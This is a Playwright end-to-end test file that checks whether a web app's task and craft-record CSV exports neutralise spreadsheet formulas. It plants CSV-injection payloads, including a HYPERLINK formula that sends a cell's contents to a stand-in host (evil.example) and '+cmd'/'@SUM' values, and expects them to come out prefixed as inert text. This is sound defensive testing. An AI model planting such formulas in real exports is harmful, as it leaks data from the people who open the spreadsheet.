import type { Page } from '@playwright/test';
import { DEMO, expect, test } from '../../fixtures';
import { exportList, openList, rpc, signInTo, uniqueWord, WIDE_SCREEN } from './list-helpers';

test.use({ viewport: WIDE_SCREEN });

/** A formula a contractor could plant for the admin's spreadsheet (OWASP "CSV Injection"). */
const hyperlink = (word: string) => `=HYPERLINK("http://evil.example/?q="&A1,"${word}")`;

/** A record and its task, both titled with a formula, made by the admin signed in on `page`. */
async function plantFormulas(page: Page) {
  const word = uniqueWord('formula');
  const companies = await rpc<{ id: string; craftTypes: number[] }[]>(page, 'sites/listCompanies');
  const scaffolder = companies.find((c) => c.craftTypes.includes(10));
  if (!scaffolder) throw new Error('no Scaffolding company on DEMO');
  await rpc(page, 'tasks/create', {
    craftType: 10,
    taskType: 10,
    newRecord: { title: hyperlink(word), description: `+cmd ${word}` },
    schedule: { choice: 'urgent' },
    assignedCompanyId: scaffolder.id,
    title: `@SUM(1+1) ${word}`,
    description: `-2+3 ${word}`,
    workOrder: '=1+1',
  });
  return word;
}

/** Types a search and clicks Export at once, before the list has applied the search. */
async function searchAndExportAtOnce(page: Page, box: string, term: string) {
  await page.getByRole('searchbox', { name: box }).fill(term);
  return exportList(page);
}

test.describe('exports', () => {
  test('a task export clicked right after typing exports the matching row, formulas neutralised', async ({
    page,
  }) => {
    await signInTo(page, DEMO.admin);
    const word = await plantFormulas(page);
    expect(await openList(page, '/task-list/All', 'tasks/list')).toBeGreaterThan(1);

    const csv = await searchAndExportAtOnce(page, 'Search Tasks', word);
    expect(csv.rows).toHaveLength(1);
    const [row] = csv.rows;
    expect(row?.title).toBe(`'@SUM(1+1) ${word}`);
    expect(row?.description).toBe(`'-2+3 ${word}`);
    expect(row?.['work order']).toBe("'=1+1");
    expect(row?.['craft record']).toBe(`'${hyperlink(word)}`);
  });

  test('a craft record export clicked right after typing exports the matching row, formulas neutralised', async ({
    page,
  }) => {
    await signInTo(page, DEMO.admin);
    const word = await plantFormulas(page);
    expect(await openList(page, '/craft-list/10', 'craftRecords/list')).toBeGreaterThan(1);

    const csv = await searchAndExportAtOnce(page, 'Search Craft Records', word);
    expect(csv.rows).toHaveLength(1);
    expect(csv.rows[0]?.title).toBe(`'${hyperlink(word)}`);
    expect(csv.rows[0]?.description).toBe(`'+cmd ${word}`);
  });
});
